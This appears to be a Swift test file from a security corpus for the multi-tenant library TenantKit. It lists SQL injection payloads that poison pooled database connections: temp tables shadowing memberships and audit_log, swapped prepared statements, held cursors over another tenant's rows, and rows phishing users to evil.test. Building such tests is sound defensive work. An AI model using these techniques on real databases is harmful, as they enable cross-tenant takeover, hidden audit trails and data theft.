import Foundation
import TenantKit

extension InjectionCorpus {
    /// #3: state an injection leaves on its pooled connection (temp objects that shadow TenantKit's
    /// unqualified tables, session settings, prepared statements, LISTEN, cursors) is there when
    /// TenantKit's own unmodified code, or a victim, leases the connection next.
    static let poolPoisoning: [InjectionAttack] = [
        InjectionAttack(
            "temp memberships table: the unmodified API lets the attacker switch to B as admin and mint a key there",
            finding: .poolPoisoning,
            steps: .statements(
                "CREATE TEMP TABLE memberships (org_id uuid, user_id uuid, role text, created_at timestamptz DEFAULT now())",
                "INSERT INTO pg_temp.memberships (org_id, user_id, role) VALUES ('{{org_b}}', '{{me}}', 'admin'), ('{{org_a}}', '{{me}}', 'admin')",
                "GRANT SELECT ON pg_temp.memberships TO tenantkit_owner"
            ) + [
                .swift("OrgSession.switch(to: B), then apiKeys.create and invitations.invite in B") { context in
                    guard let me = context.principal.userID else { return [] }
                    let session = try await context.store().session(for: me)
                    try await session.switch(to: context.world.orgB)
                    let key = try await session.write { org in try await org.apiKeys.create(name: "planted through a poisoned lease") }.value
                    let invitation = try await session.write { org in
                        try await org.invitations.invite(email: "accomplice@evil.test", role: .admin)
                    }.value
                    return [key.secret, key.key.prefix, "\(invitation)"]
                },
            ]),
        InjectionAttack(
            "temp audit_log table: B's audited writes on the same pool go to the attacker's table",
            finding: .poolPoisoning,
            attackers: [.adminOfA, .viewerOfA, .apiKeyOfA],
            victimChecks: [.victimWritesLandAndAreAudited],
            steps: [
                .statement("""
                    CREATE TEMP TABLE audit_log (org_id uuid, seq bigint, occurred_at timestamptz, actor_user_id uuid,
                        actor_api_key_id uuid, action text, target text, details jsonb, prev_hash bytea, hash bytea)
                    """),
            ]),
        InjectionAttack(
            "temp catalog_items table: B reads the attacker's items on the same pool",
            finding: .poolPoisoning,
            attackers: [.adminOfA, .viewerOfA, .apiKeyOfA],
            steps: .statements(
                """
                CREATE TEMP TABLE catalog_items (id uuid DEFAULT gen_random_uuid(), org_id uuid, kind text, slug text, name text,
                    metadata jsonb DEFAULT '{}', created_at timestamptz DEFAULT now(), updated_at timestamptz DEFAULT now())
                """,
                "INSERT INTO pg_temp.catalog_items (org_id, kind, slug, name) VALUES ('{{org_b}}', 'model', 'phish', 'Log in again at evil.test')"
            )),
        InjectionAttack(
            "temp public_catalog_items table: every org's catalog shows the attacker's items on the same pool",
            finding: .poolPoisoning,
            attackers: [.adminOfA, .viewerOfA, .apiKeyOfA],
            steps: .statements(
                """
                CREATE TEMP TABLE public_catalog_items (id uuid DEFAULT gen_random_uuid(), kind text, slug text, name text,
                    metadata jsonb DEFAULT '{}', created_at timestamptz DEFAULT now(), updated_at timestamptz DEFAULT now())
                """,
                "INSERT INTO pg_temp.public_catalog_items (kind, slug, name) VALUES ('model', 'phish', 'Log in again at evil.test')"
            )),
        InjectionAttack(
            "session-level tenant settings left for the next lease",
            finding: .poolPoisoning,
            attackers: [.adminOfA, .viewerOfA, .apiKeyOfA],
            steps: .statements(
                "SELECT set_config('tenantkit.org_id', '{{org_b}}', false), set_config('tenantkit.user_id', '{{user_b}}', false)",
                "SELECT set_config('tenantkit.claim', coalesce(current_setting('tenantkit.claim', true), ''), false)"
            )),
        InjectionAttack(
            "search_path, timeouts and read-only mode set for the next lease",
            finding: .poolPoisoning,
            steps: .statements(
                "SET search_path = pg_temp, public",
                "SET statement_timeout = '50ms'",
                "SET default_transaction_read_only = on"
            )),
        // On a fresh connection a scoped transaction prepares BEGIN as tk_1 and the claim statement
        // (`SELECT set_config('tenantkit.claim', $1, true)`) as tk_2. Swapped, the next request on
        // the connection would run under the attacker's claim (bound to this backend, valid for two
        // minutes) whatever claim it sends: B's writes would land in A.
        InjectionAttack(
            "prepared-statement swap: the driver's cached claim statement re-prepared to set the attacker's claim",
            finding: .poolPoisoning,
            attackers: [.adminOfA, .viewerOfA],
            victimChecks: [.victimWritesLandAndAreAudited],
            steps: [
                .transaction([
                    "SELECT set_config('tenantkit.stash', current_setting('tenantkit.claim', true), false)",
                    "DEALLOCATE tk_2",
                    "PREPARE tk_2 (text) AS SELECT set_config('tenantkit.claim', current_setting('tenantkit.stash', true), true)",
                ]),
            ]),
        InjectionAttack(
            "LISTEN left on the pooled connection",
            finding: .poolPoisoning,
            steps: .statements("LISTEN tenantkit_sessions")),
        InjectionAttack(
            "cursor WITH HOLD over B's rows, fetched on a later lease",
            finding: .poolPoisoning,
            steps: [
                .transaction([
                    "SELECT set_config('tenantkit.org_id', '{{org_b}}', true)",
                    "DECLARE tk_leak CURSOR WITH HOLD FOR SELECT name, settings FROM organizations",
                ]),
                .statement("FETCH ALL FROM tk_leak"),
            ]),
        InjectionAttack(
            "BEGIN left open on the pooled connection",
            finding: .poolPoisoning,
            attackers: [.adminOfA],
            victimChecks: [.victimWritesLandAndAreAudited],
            steps: .statements("BEGIN")),
    ]
}
